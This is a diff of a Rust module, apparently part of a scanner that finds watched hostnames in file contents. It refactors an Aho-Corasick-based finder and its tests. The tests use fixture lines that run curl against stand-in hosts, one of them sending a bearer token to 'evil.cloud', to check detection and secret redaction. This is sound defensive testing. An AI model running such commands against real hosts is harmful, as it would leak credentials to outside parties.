@@ -1,18 +1,15 @@
 //! Many texts at once, in a stream of any length: where each of them stands first.
 
-use std::io::{self, Read};
+use std::collections::BTreeMap;
 
 use aho_corasick::AhoCorasick;
 
 use crate::model::known_file::FoundText;
 use crate::model::text::Excerpt;
-use crate::model::watch::Needle;
+use crate::model::watch::{FileWatch, Needle};
 
 /// Longest line of which an excerpt is made, in bytes.
 const LONGEST_LINE: usize = 4096;
-
-/// Bytes that are read at a time.
-const PART: usize = 256 << 10;
 
 /// Bytes around a text that decide whether it stands alone: one in front, two behind.
 const MARGIN: usize = 3;
@@ -20,8 +17,8 @@ const MARGIN: usize = 3;
 /// Looks for texts in what it is given part by part.
 pub struct Finder<'n> {
     needles: Vec<&'n Needle>,
-    machine: Option<AhoCorasick>,
-    found: Vec<Option<FoundText>>,
+    machine: Option<&'n AhoCorasick>,
+    found: BTreeMap<usize, FoundText>,
     /// The part at hand, with the end of the one before it.
     window: Vec<u8>,
     /// Line ends in front of the window.
@@ -30,42 +27,28 @@ pub struct Finder<'n> {
 }
 
 impl<'n> Finder<'n> {
-    /// For these texts. Empty ones are never found.
+    /// For the texts of a watch, none of which is empty.
     #[must_use]
-    pub fn of(needles: impl Iterator<Item = &'n Needle>) -> Self {
-        let needles: Vec<&Needle> = needles.filter(|needle| !needle.text.is_empty()).collect();
-        let machine = if needles.is_empty() {
-            None
-        } else {
-            // Only a set of texts that is beyond its limits of memory cannot be built: then each is looked for alone.
-            AhoCorasick::new(needles.iter().map(|needle| &needle.text)).ok()
-        };
+    pub fn of(watch: &'n FileWatch) -> Self {
+        let needles: Vec<&Needle> = watch.needles.iter().collect();
+        // Where the set is beyond the limits of memory, each is looked for alone.
+        let machine = if needles.is_empty() { None } else { watch.machine() };
         let longest = needles.iter().map(|needle| needle.text.len()).max().unwrap_or(0);
-        Self { found: vec![None; needles.len()], needles, machine, window: Vec::new(), lines: 0, longest }
-    }
-
-    /// Takes all of a stream; `also` sees every part of it.
-    ///
-    /// # Errors
-    /// The stream's.
-    pub fn take_all(&mut self, mut stream: impl Read, mut also: impl FnMut(&[u8])) -> io::Result<()> {
-        let mut buffer = vec![0; PART];
-        loop {
-            let got = stream.read(&mut buffer)?;
-            let Some(part) = buffer.get(..got).filter(|part| !part.is_empty()) else { break };
-            also(part);
-            self.take(part, false);
-        }
-        self.take(&[], true);
-        Ok(())
+        Self { found: BTreeMap::new(), needles, machine, window: Vec::new(), lines: 0, longest }
     }
 
     /// What was found, sorted.
     #[must_use]
-    pub fn finish(self) -> Vec<FoundText> {
-        let mut found: Vec<FoundText> = self.found.into_iter().flatten().collect();
+    pub fn finish(mut self) -> Vec<FoundText> {
+        self.take(&[], true);
+        let mut found: Vec<FoundText> = self.found.into_values().collect();
         found.sort_unstable();
         found
+    }
+
+    /// Takes the next part.
+    pub fn next(&mut self, part: &[u8]) {
+        self.take(part, false);
     }
 
     fn take(&mut self, part: &[u8], is_end: bool) {
@@ -78,7 +61,7 @@ impl<'n> Finder<'n> {
         // What stands at the very end is looked at again with what comes behind it.
         let decided = if is_end { self.window.len() } else { self.window.len().saturating_sub(MARGIN - 1) };
         let mut hits: Vec<(usize, usize, usize)> = Vec::new();
-        match &self.machine {
+        match self.machine {
             Some(machine) => {
                 let all = machine.find_overlapping_iter(&self.window);
                 hits.extend(all.map(|hit| (hit.pattern().as_usize(), hit.start(), hit.end())));
@@ -96,16 +79,15 @@ impl<'n> Finder<'n> {
     }
 
     fn note(&mut self, at: usize, from: usize, to: usize) {
-        let (Some(needle), Some(None)) = (self.needles.get(at), self.found.get(at)) else { return };
-        if !needle.stands_alone(&self.window, from, to) {
+        let Some(needle) = self.needles.get(at).filter(|_| !self.found.contains_key(&at)) else { return };
+        let is_it = self.window.get(from..to).is_some_and(|found| needle.is(found));
+        if !is_it || !needle.stands_alone(&self.window, from, to) {
             return;
         }
         let before = self.window.get(..from).unwrap_or_default();
         let line = self.lines.saturating_add(line_ends(before)).saturating_add(1);
         let hit = FoundText { needle: (*needle).clone(), line, excerpt: self.line(from, to) };
-        if let Some(place) = self.found.get_mut(at) {
-            *place = Some(hit);
-        }
+        self.found.insert(at, hit);
     }
 
     /// The line around a place, if it is whole in the window: of one that is cut, the beginning of a secret could be missing
@@ -120,14 +102,6 @@ impl<'n> Finder<'n> {
         let lead = String::from_utf8_lossy(self.window.get(start..from)?).len();
         Some(Excerpt::around(&text, lead..(lead + to - from).min(text.len())).0)
     }
-}
-
-/// Where each of the texts stands first in `bytes`.
-#[must_use]
-pub fn find<'n>(needles: impl Iterator<Item = &'n Needle>, bytes: &[u8]) -> Vec<FoundText> {
-    let mut finder = Finder::of(needles);
-    finder.take(bytes, true);
-    finder.finish()
 }
 
 fn line_ends(bytes: &[u8]) -> u32 {
@@ -145,33 +119,40 @@ mod tests {
         Needle { text: text.to_owned(), edges }
     }
 
+    fn find(needles: &[Needle], bytes: &[u8]) -> Vec<FoundText> {
+        let watch = FileWatch { needles: needles.iter().cloned().collect(), ..FileWatch::default() };
+        let mut finder = Finder::of(&watch);
+        finder.next(bytes);
+        finder.finish()
+    }
+
     fn places(needles: &[Needle], parts: &[&[u8]]) -> Vec<(String, u32)> {
-        let mut finder = Finder::of(needles.iter());
-        parts.iter().for_each(|part| finder.take(part, false));
-        finder.take(&[], true);
+        let watch = FileWatch { needles: needles.iter().cloned().collect(), ..FileWatch::default() };
+        let mut finder = Finder::of(&watch);
+        parts.iter().for_each(|part| finder.next(part));
         finder.finish().into_iter().map(|one| (one.needle.text, one.line)).collect()
     }
 
     #[test]
     fn each_is_found_where_it_stands_alone_first() {
         let all = [needle("litellm.cloud", Edges::Host), needle("models.litellm.cloud", Edges::Host)];
-        let text = b"curl notlitellm.cloud\ncurl https://models.litellm.cloud/\n";
+        let text = b"curl notlitellm.cloud\ncurl https://models.LiteLLM.cloud/\n";
         assert_eq!(places(&all, &[text]), [("litellm.cloud".to_owned(), 2), ("models.litellm.cloud".to_owned(), 2)]);
-        let found = find(all.iter(), text);
-        assert_eq!(found[0].excerpt.as_ref().unwrap().as_str(), "curl https://models.litellm.cloud/");
+        let found = find(&all, text);
+        assert_eq!(found[0].excerpt.as_ref().unwrap().as_str(), "curl https://models.LiteLLM.cloud/");
     }
 
     #[test]
     fn a_line_that_is_cut_shows_nothing() {
         let long = format!("{} evil.cloud {}", "a".repeat(LONGEST_LINE), "b".repeat(LONGEST_LINE));
         let all = [needle("evil.cloud", Edges::Host)];
-        assert!(find(all.iter(), long.as_bytes())[0].excerpt.is_none());
+        assert!(find(&all, long.as_bytes())[0].excerpt.is_none());
     }
 
     #[test]
     fn secrets_in_the_line_are_not_shown() {
         let all = [needle("evil.cloud", Edges::Host)];
-        let found = find(all.iter(), b"curl -H 'Authorization: Bearer abcdefghijklmnop' evil.cloud");
+        let found = find(&all, b"curl -H 'Authorization: Bearer abcdefghijklmnop' evil.cloud");
         assert!(!found[0].excerpt.as_ref().unwrap().as_str().contains("abcdefgh"));
     }
 
